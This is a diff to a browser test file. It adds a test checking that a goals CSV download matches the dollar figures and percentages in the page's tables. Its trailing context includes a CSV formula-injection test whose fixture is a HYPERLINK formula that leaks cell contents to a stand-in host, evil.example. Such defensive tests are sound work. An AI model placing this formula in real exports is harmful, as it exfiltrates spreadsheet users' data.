@@ -139,6 +139,49 @@ describe('what a reader sees without scrolling sideways', () => {
   });
 });
 
+describe('the goals download', () => {
+  it('has, column by column, the figures of the goals table, a dash on the page being an empty cell', async () => {
+    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
+    await page.goto(`${server.url}goals/`);
+    const href = (await page.getByRole('link', { name: /Download the goals as CSV/ }).getAttribute('href'))!;
+    const [header, ...rows] = parse(await (await page.request.get(new URL(href, page.url()).href)).text()) as string[][];
+    // The annual and the quarterly table, in page order; each cell by its column's heading.
+    const tables = page.locator('.goals-summary table.data');
+    const onPage: Record<string, string>[] = [];
+    for (let i = 0; i < (await tables.count()); i++) {
+      const table = tables.nth(i);
+      const heads = await table.locator('thead th').allTextContents();
+      for (const cells of await table.locator('tbody tr').evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll('th, td')].map((c) => c.textContent!.trim())))) {
+        onPage.push(Object.fromEntries(heads.map((h, j) => [h, cells[j]!])));
+      }
+    }
+    await page.close();
+    const col = (name: string) => header!.indexOf(name);
+    const usd = (cell: string) => (cell === '' ? '—' : `$${Math.round(Number(cell)).toLocaleString('en-US')}`);
+    const fromCsv = rows.map((r) => ({
+      Goal: r[col('goal')]!,
+      Target: usd(r[col('target (USD)')]!),
+      Planned: usd(r[col('planned (USD)')]!),
+      Booked: usd(r[col('booked (USD)')]!),
+      'booked share': Number(r[col('booked share')]),
+      Coverage: Number(r[col('coverage')]),
+      Stretch: usd(r[col('stretch (USD)')]!),
+      Plans: r[col('plans')]!,
+    }));
+    // The CSV keeps ratios to a tenth of a percent; the page rounds them to a whole one.
+    const percent = (text: string | undefined) => Number(/(\d+)%/.exec(text ?? '')?.[1]);
+    expect(onPage).toHaveLength(fromCsv.length);
+    for (const [i, g] of fromCsv.entries()) {
+      const shown = onPage[i]!;
+      const { 'booked share': share, Coverage: coverage, ...figures } = g;
+      expect(figures).toEqual({ Goal: shown['Goal'], Target: shown['Target'], Planned: shown['Planned'], Booked: shown['Booked']!.replace(/ \(\d+%\)$/, ''), Stretch: shown['Stretch'], Plans: shown['Plans'] });
+      expect(Math.abs(coverage * 100 - percent(shown['Coverage']))).toBeLessThanOrEqual(0.5 + 1e-9);
+      expect(Math.abs(share * 100 - percent(shown['Booked']))).toBeLessThanOrEqual(0.5 + 1e-9);
+    }
+    expect(fromCsv.some((g) => g.Stretch === '—')).toBe(true);
+  });
+});
+
 describe('CSV downloads of plan text written as formulas', () => {
   const NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open"), Inc.';
   const PERSON = '@SUM(1+1) "Ann"';
